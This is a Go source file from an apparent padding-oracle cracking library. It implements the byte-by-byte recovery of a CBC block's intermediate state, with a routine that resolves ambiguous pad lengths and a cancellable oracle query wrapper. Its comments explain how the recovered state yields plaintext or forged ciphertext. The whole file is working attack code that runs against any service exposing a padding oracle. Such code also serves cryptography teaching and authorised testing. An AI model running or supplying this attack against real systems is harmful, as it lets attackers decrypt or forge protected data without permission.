package pocrack

import (
	"context"
	"fmt"

	"github.com/alesforz/padoracle/pobytes"
)

// RecoverIntermediate recovers the intermediate state of a single
// ciphertext block: the raw block-cipher decryption D_k(blk) before CBC's
// XOR with the preceding block. Once known, the intermediate turns the
// oracle's one leaked bit into full plaintext (XOR with the real
// predecessor) or into a forged predecessor that decrypts to anything (XOR
// with the desired plaintext).
//
// The engine forges a predecessor block F and asks the oracle about F || blk
// for each pad value j = 1..blockSize. Once the bytes for pad values below
// j are known, F's tail is set so those positions decrypt to j, and the
// byte under attack is brute-forced over its 256 values; the oracle's first
// valid verdict pins it. At most 256 queries per byte plus one
// disambiguation sweep per block, so the call budget for a block is
// 256·blockSize + 2·blockSize.
//
// Cancellation of ctx is observed between oracle queries.
func (c *Cracker) RecoverIntermediate(ctx context.Context, blk []byte) ([]byte, error) {
	if len(blk) != c.blkSize {
		const errStr = "%w: block length %d does not match block size %d"
		return nil, fmt.Errorf(errStr, ErrInvalidInput, len(blk), c.blkSize)
	}

	forged, err := pobytes.RandomNonZero(c.blkSize)
	if err != nil {
		return nil, fmt.Errorf("seeding forged predecessor: %s", err)
	}

	var (
		blkSize = c.blkSize
		inter   = make([]byte, blkSize)

		// probe is the oracle input F || blk, reused across every query so
		// the inner loop allocates nothing.
		probe = make([]byte, 2*blkSize)
	)
	copy(probe[blkSize:], blk)

	for j := 1; j <= blkSize; j++ {
		// The byte position under attack for pad value j.
		offt := blkSize - j

		// Pin the already-solved tail: setting F[k] = I[k] ^ j makes every
		// solved position decrypt to j, so only the byte at offt decides
		// whether the pad-j suffix is valid.
		for k := offt + 1; k < blkSize; k++ {
			forged[k] = inter[k] ^ byte(j)
		}

		found := false
		for i := 0; i < 256; i++ {
			forged[offt] = byte(i)

			ok, err := c.query(ctx, forged, probe)
			if err != nil {
				return nil, err
			}
			if !ok {
				continue
			}

			if j == 1 {
				// With a fresh random F, a valid verdict does not pin the
				// pad length: the suffix may have formed a longer pad (e.g.
				// …02 02) by accident. Find the true length before trusting
				// any byte.
				padLen, err := c.confirmPadLen(ctx, forged, probe)
				if err != nil {
					return nil, err
				}

				// All padLen trailing positions decrypt to padLen under the
				// current F, so their intermediates fall out at once.
				for m := blkSize - padLen; m < blkSize; m++ {
					inter[m] = forged[m] ^ byte(padLen)
				}

				// Resume the outer loop at pad value padLen+1.
				j = padLen
			} else {
				inter[offt] = byte(i) ^ byte(j)
			}

			c.logger.Printf("recovered intermediate byte %d", offt)
			found = true
			break
		}

		if !found {
			return nil, fmt.Errorf("%w (pad value %d)", ErrOracleFailed, j)
		}
	}

	return inter, nil
}

// confirmPadLen determines the true pad length that the current forged
// block produces, given that the oracle just reported valid padding. It
// flips the low bit of each byte above the assumed pad in turn and
// re-queries: a byte outside the pad leaves the verdict valid, a byte
// inside it breaks the pad. The sweep stops at the first unaffected byte;
// if every flip breaks the pad, the pad spans the whole block.
func (c *Cracker) confirmPadLen(ctx context.Context, forged, probe []byte) (int, error) {
	for l := 2; l <= c.blkSize; l++ {
		pos := c.blkSize - l

		forged[pos] ^= 1
		ok, err := c.query(ctx, forged, probe)
		forged[pos] ^= 1

		if err != nil {
			return 0, err
		}
		if ok {
			return l - 1, nil
		}
	}

	return c.blkSize, nil
}

// query runs one oracle round trip on forged || target, honoring
// cancellation first. probe's second half must already hold the target
// block.
func (c *Cracker) query(ctx context.Context, forged, probe []byte) (bool, error) {
	if err := ctx.Err(); err != nil {
		return false, fmt.Errorf("recovery cancelled: %w", err)
	}

	copy(probe, forged)

	ok, err := c.oracle(probe)
	if err != nil {
		return false, fmt.Errorf("oracle query: %w", err)
	}

	return ok, nil
}
